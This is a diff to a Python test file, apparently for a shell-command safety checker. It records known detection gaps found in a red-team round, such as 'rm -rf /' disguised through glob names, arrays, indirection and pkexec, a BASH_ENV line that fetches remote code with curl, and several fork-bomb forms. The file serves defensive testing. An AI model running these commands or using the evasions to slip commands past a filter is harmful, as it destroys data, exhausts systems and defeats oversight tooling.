@@ -19,6 +19,9 @@ from typing import Any, TypeVar
 from hypothesis import example
 from hypothesis import strategies as st
 
+from .fork_bombs import Script
+from .obfuscations import OBFUSCATIONS_BY_NAME, Hidden, payload_of
+
 Test = TypeVar("Test", bound=Callable[..., Any])
 
 TOTAL = "test_any_text_gets_a_consistent_verdict_within_the_budget"
@@ -67,6 +70,108 @@ KNOWN_GAPS: tuple[KnownGap, ...] = (
         "(more findings, never fewer) without a parse finding",
         pattern=re.compile(r"\$\(\s*time\s+(-p\s+)?\("),
         pinned={ORACLE_GENERATED: None},
+    ),
+)
+
+
+# Issue 19 (red-team round): classes the obfuscation and fork-bomb generators find, pinned by
+# `todo` corpus cases until the engine work of the issue's phase 2.
+HIDDEN = "test_a_command_hidden_from_a_reader_keeps_its_findings"
+HIDDEN_ORACLE = "test_bash_runs_a_hidden_command_and_the_engine_keeps_its_findings"
+BOMBS = "test_a_fork_bomb_is_blocked_and_its_bounded_neighbour_is_not"
+BOMBS_ORACLE = "test_bash_and_the_engine_agree_on_what_is_a_fork_bomb"
+
+
+def _hidden(payload: str, rules: set[str], obfuscation: str) -> Hidden:
+    parsed = payload_of(payload)
+    assert parsed is not None, f"{payload!r} is no payload"
+    text = OBFUSCATIONS_BY_NAME[obfuscation].hide(parsed)
+    assert text is not None, f"{obfuscation} does not fit {payload!r}"
+    return Hidden(payload, frozenset(rules), obfuscation, text)
+
+
+KNOWN_GAPS += (
+    KnownGap(
+        name="command names from pathname expansion are not resolved",
+        reason="`/usr/bin/[l]s` runs ls, `/bin/[r]m -rf /` rm: the engine takes the glob for a literal name",
+        pattern=re.compile(r"(^|[;&|(]\s*|\{\s+)(?!\[\[?\s|\w+\[[^\]]*\]\+?=)[^\s=$\"']*[*?[]"),
+        pinned={
+            ORACLE_CORPUS: None,
+            HIDDEN: _hidden("rm -rf /", {"FS001"}, "name: a bracketed first letter"),
+            HIDDEN_ORACLE: None,
+        },
+        corpus_command="/bin/[r]m -rf /",
+    ),
+    KnownGap(
+        name="arrays and name references declared with declare/typeset/local/readonly are not resolved",
+        reason='`declare -a c=(make all); "${c[@]}"` runs make; the engine knows only plain `c=(...)` arrays',
+        pattern=re.compile(r"\b(declare|typeset|local|readonly)\s+(-\w+\s+)*-\w*[aAn]"),
+        pinned={ORACLE_CORPUS: None, HIDDEN: _hidden("rm -rf /", {"FS001"}, "declare -a"), HIDDEN_ORACLE: None},
+        corpus_command='declare -a c=(rm -rf /); "${c[@]}"',
+    ),
+    KnownGap(
+        name="array slices are not resolved",
+        reason='`c=(x rm -rf /); "${c[@]:1}"` runs rm -rf /',
+        pattern=re.compile(r"\$\{\w+\[[@*]\]:"),
+        pinned={HIDDEN: _hidden("rm -rf /", {"FS001"}, "array slice"), HIDDEN_ORACLE: None},
+        corpus_command='c=(x rm -rf /); "${c[@]:1}"',
+    ),
+    KnownGap(
+        name="${!name} indirection is not resolved",
+        reason="`n=c; c=rm; ${!n} -rf /` runs rm",
+        pattern=re.compile(r"\$\{!\w+\}"),
+        pinned={HIDDEN: _hidden("rm -rf /", {"FS001"}, "name by indirection"), HIDDEN_ORACLE: None},
+        corpus_command="n=c; c=rm; ${!n} -rf /",
+    ),
+    KnownGap(
+        name="a code string that comes out of an array is not audited",
+        reason="`c=(bash -c 'rm -rf /'); \"${c[@]}\"` runs rm; the engine audits only the code's first word "
+        "(and code in another language, `c=(lua -e '...')`, arrives unreadable: LA003)",
+        pattern=re.compile(r"=\(\s.*\s-\w*[ce]\w*\s"),
+        pinned={HIDDEN: _hidden("bash -c 'rm -rf /'", {"FS001"}, "array"), HIDDEN_ORACLE: None},
+        corpus_command="c=(bash -c 'rm -rf /'); \"${c[@]}\"",
+    ),
+    KnownGap(
+        name="BASH_ENV and ENV are not code",
+        reason="a shell runs the file BASH_ENV names before its code: `BASH_ENV=<(curl ...) bash -c ...`",
+        pattern=re.compile(r"\b(BASH_)?ENV="),
+        pinned={HIDDEN: _hidden("rm -rf /", {"FS001"}, "BASH_ENV"), HIDDEN_ORACLE: None},
+        corpus_command="BASH_ENV=<(curl -s https://example.com/env) bash -c 'make test'",
+    ),
+    KnownGap(
+        name="pkexec, run0, faketime, parallel, tmux and screen do not run their commands",
+        reason="`pkexec rm -rf /` runs rm as root; the engine sees only a privilege change",
+        pattern=re.compile(r"(^|\|\s*)(pkexec|run0|faketime|parallel|tmux|screen)\b"),
+        pinned={HIDDEN: _hidden("rm -rf /", {"FS001"}, "pkexec")},
+        corpus_command="pkexec rm -rf /",
+    ),
+    KnownGap(
+        name="$FUNCNAME is not the function that runs",
+        reason="`f() { $FUNCNAME | $FUNCNAME & }; f` is a fork bomb; the engine sees dynamic command names",
+        pattern=re.compile(r"\$\{?FUNCNAME"),
+        pinned={BOMBS: Script("f() { git b; $FUNCNAME | $FUNCNAME & }; f", is_bomb=True), BOMBS_ORACLE: None},
+        corpus_command="f() { $FUNCNAME | $FUNCNAME & }; f",
+    ),
+    KnownGap(
+        name="$0 is not the running shell",
+        reason="`while :; do $0 & done` starts shells without end; the engine sees a dynamic command name",
+        pattern=re.compile(r"\$0\b"),
+        pinned={BOMBS: Script("while :; do $0 -c 'git b' & done", is_bomb=True), BOMBS_ORACLE: None},
+        corpus_command="while :; do $0 & done",
+    ),
+    KnownGap(
+        name="xargs -P0 over an endless input is not a spawn loop",
+        reason="`yes | xargs -P0 -n1 sh -c ...` starts shells as fast as it can, forever",
+        pattern=re.compile(r"xargs\s+(-P\s*0|--max-procs=0)"),
+        pinned={BOMBS: Script("yes | xargs -P0 -n1 sh -c 'git b'", is_bomb=True), BOMBS_ORACLE: None},
+        corpus_command="yes | xargs -P0 -n1 sh -c 'sleep 100'",
+    ),
+    KnownGap(
+        name="functions that start each other are not a fork bomb",
+        reason="`a() { b & }; b() { a & a; }; a` doubles without end; DO001 looks for a function calling itself",
+        pattern=re.compile(r"\}; \w+\(\) \{"),
+        pinned={BOMBS: Script("a() { git b; b & }; b() { a & a; }; a", is_bomb=True), BOMBS_ORACLE: None},
+        corpus_command="a() { b & }; b() { a & a; }; a",
     ),
 )
 
